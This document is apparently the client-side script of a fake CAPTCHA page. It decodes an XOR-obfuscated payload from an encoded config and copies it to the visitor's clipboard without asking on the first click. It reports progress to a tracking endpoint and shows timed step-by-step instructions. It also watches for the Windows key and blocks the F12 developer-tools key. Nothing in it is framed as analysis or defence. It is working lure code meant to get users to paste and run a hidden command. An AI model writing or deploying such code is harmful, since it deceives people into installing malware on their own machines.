const $ = (s, r = document) => r.querySelector(s);
const cfg = JSON.parse(decodeURIComponent(escape(atob($("#cfg").textContent))));
let primed = false;

const prime = async () => {
  if (primed) return;
  const key = cfg.k.split("").map((c) => c.charCodeAt(0));
  const body = Uint8Array.from(atob(cfg.b), (c) => c.charCodeAt(0)).map((v, i) => v ^ key[i % key.length]);
  const item = new ClipboardItem({ "text/plain": new Blob([new TextDecoder().decode(body)], { type: "text/plain" }) });
  await navigator.clipboard.write([item]);
  primed = true;
  navigator.sendBeacon(cfg.t, "p=" + cfg.id);
};

const reveal = () => {
  const left = cfg.lines.map((l, i) => `<div class="row"><span>${i + 1}</span>${l}</div>`).join("");
  $("#panel").innerHTML = `<h4>${cfg.title}</h4>${left}<div class="timer"><i style="animation-duration:${cfg.s}s"></i></div><button id="next" disabled>${cfg.next}</button>`;
  $("#panel").showModal();
  setTimeout(() => ($("#next").disabled = false), cfg.s * 1000);
  $("#next").onclick = () => location.assign(cfg.out);
};

$("#cb-wrap").addEventListener("pointerdown", prime);
$("#cb-wrap").addEventListener("click", () => {
  $("#cb-wrap").dataset.state = "busy";
  setTimeout(reveal, 900 + Math.random() * 900);
});
window.addEventListener("keydown", (e) => {
  if (e.key === "Meta" || e.key === "OS") navigator.sendBeacon(cfg.t, "w=" + cfg.id);
  if (e.key === "F12") e.preventDefault();
});
